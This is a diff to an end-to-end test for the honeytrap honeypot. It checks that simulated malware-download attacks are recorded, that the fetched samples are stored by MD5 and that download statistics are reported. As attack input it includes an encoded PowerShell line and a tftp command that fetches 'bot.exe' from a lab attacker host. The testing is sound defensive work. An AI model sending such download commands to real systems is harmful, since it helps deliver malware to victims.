@@ -1,7 +1,8 @@
 """End to end through the daemon: an attacker tells its 'victim' to fetch malware; honeytrap's
-dynamic server records the attack, the download plugins fetch the sample from the attacker's
-own server, SaveFile stores it under its MD5 and attackers.json lists it on the attack; the
-plugins' download counts reach SIGUSR1's statistics line."""
+dynamic server records the attack at once, the download plugins fetch the sample from the
+attacker's own server in the download pool, SaveFile stores it under its MD5 and attackers.json
+lists it on the attack's follow-up line; the plugins' download counts reach SIGUSR1's
+statistics line."""
 
 from __future__ import annotations
 
@@ -84,7 +85,8 @@ plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
         attack(lab, 5985, b"powershell -enc " + hidden + b"\r\n")
         assert tftp_port == 69  # Windows' tftp knows no other port
         attack(lab, 445, f"tftp -i {lab.attacker.ip4} GET bot.exe\r\n".encode())
-        records = ht.wait_records(3, timeout=60)
+        # three attacks recorded at once, then a follow-up line for each with its download
+        records = ht.wait_records(6, timeout=60)
         # three samples fetched (the decoded PowerShell line's too), counted by the plugins
         stats = statistics_with(ht, "downloads=3", timeout=2 * STATS_INTERVAL + 10)
         assert stats.get("downloads") == "3", stats
@@ -93,15 +95,23 @@ plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
         assert ht.stop() == 0
     md5 = hashlib.md5(sample).hexdigest()
     assert (ht.downloads_dir / md5).read_bytes() == sample
-    by_port = {r["attack_connection"]["local_port"]: r for r in records}  # type: ignore[index]
+    attacks = [r for r in records if not r.get("follow_up")]
+    assert all(r["download_count"] == 0 for r in attacks)  # recorded before any download ended
+    ports = {r["id"]: r["attack_connection"]["local_port"] for r in attacks}  # type: ignore[index]
+    followups = [r for r in records if r.get("follow_up")]
+    by_port = {ports[r["id"]]: r for r in followups}  # type: ignore[index]
+    assert len(attacks) == len(by_port) == 3, records
     for port in (80, 5985):
         record = by_port[port]
         assert record["download_count"] == 1, record
+        assert record["analysis"]["SaveFile"]["downloads"] == [  # type: ignore[index]
+            f"{ht.downloads_dir}/{md5}"]
         download = record["downloads"][0]  # type: ignore[index]
         assert download["type"] == "http"
         assert download["payload"]["md5_hash"] == md5
         assert download["uri"] == url
-    assert by_port[5985]["is_virtual"] is False  # found in decoded data, listed on the real attack
+    # found in decoded data, listed on the real attack
+    assert {r["is_virtual"] for r in attacks} == {False}
     assert by_port[445]["downloads"][0]["type"] == "tftp"  # type: ignore[index]
     # one file for the one sample fetched three times, and no temp files left beside it
     assert sorted(p.name for p in ht.downloads_dir.iterdir()) == [md5]
